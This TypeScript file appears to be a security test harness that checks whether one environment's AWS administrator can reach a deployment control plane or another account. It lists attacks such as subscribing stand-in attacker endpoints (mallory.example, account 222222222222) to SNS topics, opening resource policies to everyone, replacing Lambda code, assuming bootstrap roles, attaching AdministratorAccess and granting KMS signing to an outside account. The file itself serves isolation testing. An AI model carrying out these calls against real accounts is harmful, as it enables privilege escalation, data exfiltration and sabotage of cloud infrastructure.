import {
  CreateChangeSetCommand,
  CreateStackCommand,
  DeleteStackCommand,
  UpdateStackCommand,
} from "@aws-sdk/client-cloudformation";
import { DeleteItemCommand, GetItemCommand, PutItemCommand } from "@aws-sdk/client-dynamodb";
import { PutEventsCommand, PutPermissionCommand } from "@aws-sdk/client-eventbridge";
import {
  AttachRolePolicyCommand,
  PutRolePolicyCommand,
  UpdateAssumeRolePolicyCommand,
} from "@aws-sdk/client-iam";
import { CreateGrantCommand, DisableKeyCommand, PutKeyPolicyCommand, SignCommand } from "@aws-sdk/client-kms";
import { AddPermissionCommand, InvokeCommand, UpdateFunctionCodeCommand } from "@aws-sdk/client-lambda";
import {
  DeleteObjectCommand,
  GetObjectCommand,
  ListObjectsV2Command,
  PutBucketPolicyCommand,
  PutObjectCommand,
} from "@aws-sdk/client-s3";
import {
  SendTaskSuccessCommand,
  StartExecutionCommand,
  UpdateStateMachineCommand,
} from "@aws-sdk/client-sfn";
import {
  AddPermissionCommand as AddTopicPermissionCommand,
  ListSubscriptionsByTopicCommand,
  PublishCommand,
  SetTopicAttributesCommand,
  SubscribeCommand,
} from "@aws-sdk/client-sns";
import { ReceiveMessageCommand, SendMessageCommand } from "@aws-sdk/client-sqs";
import { AssumeRoleCommand } from "@aws-sdk/client-sts";
import { type Environment, environments } from "../../../../lib/domain/environment.ts";
import type { Installation } from "../../../../lib/installation/installation.ts";
import {
  type EnvironmentPlace,
  environmentRoles,
  executionRoleArnOf,
  roleArnOf,
} from "../../../../lib/ports/shared/environments/roles.ts";
import { controlPlaneOf } from "../../../../lib/settings/names.ts";
import { type Attack, type Finding, type Outcome, went, without } from "../attack.ts";
import type { Clients } from "./clients.ts";

/** One administrator of an environment's account, with the keys of a session. */
export type Administrator = { readonly environment: Environment; readonly clients: Clients };

/** What the attacks are about. */
export type Target = {
  readonly installation: Installation;
  readonly places: Readonly<Record<Environment, EnvironmentPlace>>;
  readonly buildsUrl: string;
  /** What is different from before; null if nothing is. */
  readonly changed: () => Promise<string | null>;
};

const open = (Resource: string) =>
  JSON.stringify({
    Version: "2012-10-17",
    Statement: [{ Effect: "Allow", Principal: "*", Action: "*", Resource }],
  });

/** What an administrator asks of the control plane or of another environment: none of it may be answered. */
type Request = readonly [Finding, string, (clients: Clients, from: Environment) => Promise<unknown>];

function requests({ installation, places, buildsUrl }: Target): readonly Request[] {
  const {
    topicArns,
    bucketName,
    assetsBucketName,
    tableName,
    busName,
    signingKeyArn,
    decisionKeyArn,
    stateMachineArn,
    accounts,
    application,
  } = installation;
  const { account, region } = accounts.controlPlane;
  const functionArn = (name: string) => `arn:aws:lambda:${region}:${account}:function:${application}-${name}`;
  const roleArn = (name: string) => `arn:aws:iam::${account}:role/${name}`;
  const table = `arn:aws:dynamodb:${region}:${account}:table/${tableName}`;
  const bus = `arn:aws:events:${region}:${account}:event-bus/${busName}`;
  const stack = `arn:aws:cloudformation:${region}:${account}:stack/${controlPlaneOf(application)}/id`;
  const lease = { pk: { S: `LEASE#${application}` }, sk: { S: "LEASE" } };
  const message = Buffer.from("a".repeat(32));
  const sign = { Message: message, MessageType: "DIGEST", SigningAlgorithm: "ECDSA_SHA_256" } as const;
  const topics = Object.entries(topicArns);
  const endpoints = [
    ["email", "mallory@example.com"],
    ["https", "https://mallory.example/hook"],
    ["sqs", "arn:aws:sqs:us-east-1:222222222222:stolen"],
    ["lambda", "arn:aws:lambda:us-east-1:222222222222:function:stolen"],
  ] as const;
  return [
    ...topics.flatMap(([id, TopicArn]): Request[] => [
      ...endpoints.map(
        ([Protocol, Endpoint]): Request => [
          1,
          `subscribes by ${Protocol} to the topic of ${id}`,
          ({ sns }) => sns.send(new SubscribeCommand({ TopicArn, Protocol, Endpoint })),
        ],
      ),
      [
        1,
        `opens the topic of ${id}`,
        ({ sns }) =>
          sns.send(
            new SetTopicAttributesCommand({
              TopicArn,
              AttributeName: "Policy",
              AttributeValue: open(TopicArn),
            }),
          ),
      ],
      [
        1,
        `adds a permission to the topic of ${id}`,
        ({ sns }) =>
          sns.send(
            new AddTopicPermissionCommand({
              TopicArn,
              Label: "mine",
              AWSAccountId: ["222222222222"],
              ActionName: ["Subscribe"],
            }),
          ),
      ],
      [1, `lists who hears ${id}`, ({ sns }) => sns.send(new ListSubscriptionsByTopicCommand({ TopicArn }))],
      [
        1,
        `sends a mail of its own to ${id}`,
        ({ sns }) => sns.send(new PublishCommand({ TopicArn, Message: "click here" })),
      ],
    ]),
    ...["decide", "sign-receipt", "sweep", "open-gate"].flatMap((name): Request[] => [
      [
        2,
        `invokes ${name}`,
        ({ lambda }) =>
          lambda.send(new InvokeCommand({ FunctionName: functionArn(name), Payload: Buffer.from("{}") })),
      ],
      [
        2,
        `replaces the code of ${name}`,
        ({ lambda }) =>
          lambda.send(
            new UpdateFunctionCodeCommand({ FunctionName: functionArn(name), ZipFile: Buffer.from("x") }),
          ),
      ],
      [
        2,
        `lets itself invoke ${name}`,
        ({ lambda }) =>
          lambda.send(
            new AddPermissionCommand({
              FunctionName: functionArn(name),
              StatementId: "mine",
              Action: "lambda:InvokeFunction",
              Principal: "222222222222",
            }),
          ),
      ],
    ]),
    [
      2,
      "assumes the control plane's bootstrap role",
      ({ sts }) =>
        sts.send(
          new AssumeRoleCommand({
            RoleArn: roleArn(`cdk-hnb659fds-deploy-role-${account}-${region}`),
            RoleSessionName: "mine",
          }),
        ),
    ],
    [
      2,
      "assumes the control plane's role of CloudFormation",
      ({ sts }) =>
        sts.send(
          new AssumeRoleCommand({
            RoleArn: roleArn(`cdk-hnb659fds-cfn-exec-role-${account}-${region}`),
            RoleSessionName: "mine",
          }),
        ),
    ],
    ...environments.flatMap((to): Request[] =>
      [...environmentRoles.map((role) => roleArnOf(role, places[to])), executionRoleArnOf(places[to])].map(
        (RoleArn): Request => [
          2,
          `assumes ${RoleArn}, if it is another account's`,
          ({ sts }, from) =>
            otherwise(from === to, () =>
              sts.send(new AssumeRoleCommand({ RoleArn, RoleSessionName: "mine" })),
            ),
        ],
      ),
    ),
    ...environments.map(
      (to): Request => [
        2,
        `deploys under the role of CloudFormation of ${to}, if that is another account's`,
        ({ cloudFormation }, from) =>
          otherwise(from === to, () =>
            cloudFormation.send(
              new CreateStackCommand({
                StackName: `${application}-${to}-mine`,
                TemplateBody: emptyStack,
                RoleARN: executionRoleArnOf(places[to]),
              }),
            ),
          ),
      ],
    ),
    ...environments.map(
      (to): Request => [
        2,
        `puts a file into the bootstrap's bucket of ${to}, if that is another account's`,
        ({ s3 }, from) =>
          otherwise(from === to, () =>
            s3.send(
              new PutObjectCommand({
                Bucket: `cdk-hnb659fds-assets-${places[to].account}-${places[to].region}`,
                Key: "mine",
                Body: "mine",
              }),
            ),
          ),
      ],
    ),
    [
      2,
      "signs with the signing key",
      ({ kms }) => kms.send(new SignCommand({ KeyId: signingKeyArn, ...sign })),
    ],
    [
      2,
      "signs with the decision key",
      ({ kms }) => kms.send(new SignCommand({ KeyId: decisionKeyArn, ...sign })),
    ],
    [
      2,
      "opens the signing key",
      ({ kms }) => kms.send(new PutKeyPolicyCommand({ KeyId: signingKeyArn, Policy: open("*") })),
    ],
    [
      2,
      "grants itself the decision key",
      ({ kms }) =>
        kms.send(
          new CreateGrantCommand({
            KeyId: decisionKeyArn,
            GranteePrincipal: "arn:aws:iam::222222222222:root",
            Operations: ["Sign"],
          }),
        ),
    ],
    [2, "disables the signing key", ({ kms }) => kms.send(new DisableKeyCommand({ KeyId: signingKeyArn }))],
    [
      2,
      "starts the state machine",
      ({ states }) => states.send(new StartExecutionCommand({ stateMachineArn, name: "mine", input: "{}" })),
    ],
    [
      2,
      "replaces the state machine",
      ({ states }) =>
        states.send(
          new UpdateStateMachineCommand({
            stateMachineArn,
            definition: '{"StartAt":"End","States":{"End":{"Type":"Succeed"}}}',
          }),
        ),
    ],
    [
      2,
      "answers a gate's token",
      ({ states }) =>
        states.send(new SendTaskSuccessCommand({ taskToken: "a-token-that-was-guessed", output: "{}" })),
    ],
    [
      2,
      "puts an event on the control plane's bus",
      ({ events }) =>
        mustFail(
          events.send(
            new PutEventsCommand({
              Entries: [
                { EventBusName: bus, Source: "interlock", DetailType: "Change Submitted", Detail: "{}" },
              ],
            }),
          ),
        ),
    ],
    [
      2,
      "opens the control plane's bus",
      ({ events }) =>
        events.send(
          new PutPermissionCommand({
            EventBusName: bus,
            Action: "events:PutEvents",
            Principal: "*",
            StatementId: "mine",
          }),
        ),
    ],
    [
      2,
      "puts a commit into the queue of builds",
      ({ sqs }) => sqs.send(new SendMessageCommand({ QueueUrl: buildsUrl, MessageBody: "{}" })),
    ],
    [
      2,
      "takes a commit out of the queue of builds",
      ({ sqs }) => sqs.send(new ReceiveMessageCommand({ QueueUrl: buildsUrl })),
    ],
    [
      2,
      "updates the control plane's stack",
      ({ cloudFormation }) =>
        cloudFormation.send(new UpdateStackCommand({ StackName: stack, TemplateBody: emptyStack })),
    ],
    [
      2,
      "makes a change set of the control plane's stack",
      ({ cloudFormation }) =>
        cloudFormation.send(
          new CreateChangeSetCommand({ StackName: stack, ChangeSetName: "mine", TemplateBody: emptyStack }),
        ),
    ],
    [
      2,
      "deletes the control plane's stack by its name",
      async ({ cloudFormation }) =>
        // A stack that is not there counts as deleted.
        present(
          (await cloudFormation.send(new DeleteStackCommand({ StackName: controlPlaneOf(application) }))) &&
            undefined,
        ),
    ],
    [
      2,
      "makes a role of the control plane trust it",
      ({ iam }) =>
        iam.send(
          new UpdateAssumeRolePolicyCommand({
            RoleName: `cdk-hnb659fds-deploy-role-${account}-${region}`,
            PolicyDocument: open("*"),
          }),
        ),
    ],
    [
      2,
      "writes a policy of a role of the control plane",
      ({ iam }) =>
        iam.send(
          new PutRolePolicyCommand({
            RoleName: `cdk-hnb659fds-deploy-role-${account}-${region}`,
            PolicyName: "mine",
            PolicyDocument: open("*"),
          }),
        ),
    ],
    [
      2,
      "attaches a policy to a role of the control plane",
      ({ iam }) =>
        iam.send(
          new AttachRolePolicyCommand({
            RoleName: `cdk-hnb659fds-deploy-role-${account}-${region}`,
            PolicyArn: "arn:aws:iam::aws:policy/AdministratorAccess",
          }),
        ),
    ],
    [
      14,
      "deletes the lease",
      ({ dynamodb }) => dynamodb.send(new DeleteItemCommand({ TableName: table, Key: lease })),
    ],
    [
      14,
      "puts another lease",
      ({ dynamodb }) =>
        dynamodb.send(new PutItemCommand({ TableName: table, Item: { ...lease, epoch: { N: "0" } } })),
    ],
    [
      14,
      "reads the lease",
      async ({ dynamodb }) =>
        present((await dynamodb.send(new GetItemCommand({ TableName: table, Key: lease }))).Item),
    ],
    ...[bucketName, assetsBucketName].flatMap((Bucket): Request[] => [
      [
        15,
        `puts junk under a digest in ${Bucket}`,
        ({ s3 }) =>
          s3.send(
            new PutObjectCommand({
              Bucket,
              Key: `by-digest/${"a".repeat(64)}`,
              Body: "junk",
              IfNoneMatch: "*",
            }),
          ),
      ],
      [
        16,
        `hides an object of ${Bucket}`,
        ({ s3 }) => s3.send(new DeleteObjectCommand({ Bucket, Key: `by-digest/${"a".repeat(64)}` })),
      ],
      [
        16,
        `opens ${Bucket}`,
        ({ s3 }) => s3.send(new PutBucketPolicyCommand({ Bucket, Policy: open(`arn:aws:s3:::${Bucket}/*`) })),
      ],
      [16, `lists ${Bucket}`, ({ s3 }) => s3.send(new ListObjectsV2Command({ Bucket }))],
      [
        16,
        `reads an object of ${Bucket}`,
        ({ s3 }) => s3.send(new GetObjectCommand({ Bucket, Key: `by-digest/${"a".repeat(64)}` })),
      ],
    ]),
  ];
}

const emptyStack = JSON.stringify({
  Resources: { Nothing: { Type: "AWS::CloudFormation::WaitConditionHandle" } },
});

/** What concerns only the administrator's own account is not tried. */
const ownAccount = "its own account";
const otherwise = (isOwn: boolean, act: () => Promise<unknown>): Promise<unknown> =>
  isOwn ? Promise.reject(Object.assign(new Error(ownAccount), { name: ownAccount })) : act();

/** A bus answers entry by entry. */
async function mustFail(answer: Promise<{ readonly FailedEntryCount?: number | undefined }>): Promise<void> {
  if (((await answer).FailedEntryCount ?? 0) > 0)
    throw Object.assign(new Error("the entry failed"), { name: "FailedEntry" });
}

/** Nothing read is nothing gained. */
function present(item: unknown): unknown {
  if (item === undefined) throw Object.assign(new Error("nothing is there"), { name: "NothingThere" });
  return item;
}

/** Every request, by the administrators of all environments. */
export const asAdministrators = (
  target: Target,
  administrators: readonly Administrator[],
): readonly Attack[] =>
  requests(target).map(
    ([finding, what, ask]): Attack => ({
      finding,
      where: "emulator",
      variant: `an administrator of each environment's account ${what}`,
      carryOut: async (): Promise<Outcome> => {
        const names = new Set<string>();
        for (const { environment, clients } of administrators)
          try {
            await ask(clients, environment);
            names.add(`answered to ${environment}`);
          } catch (error) {
            const { name } = error as Error;
            if (name !== ownAccount) names.add(name);
          }
        const changed = await target.changed();
        const answered = [...names].filter((name) => name.startsWith("answered"));
        if (changed !== null) return went(changed);
        return answered.length > 0 ? went(answered.join(", ")) : without([...names].join(", "));
      },
    }),
  );
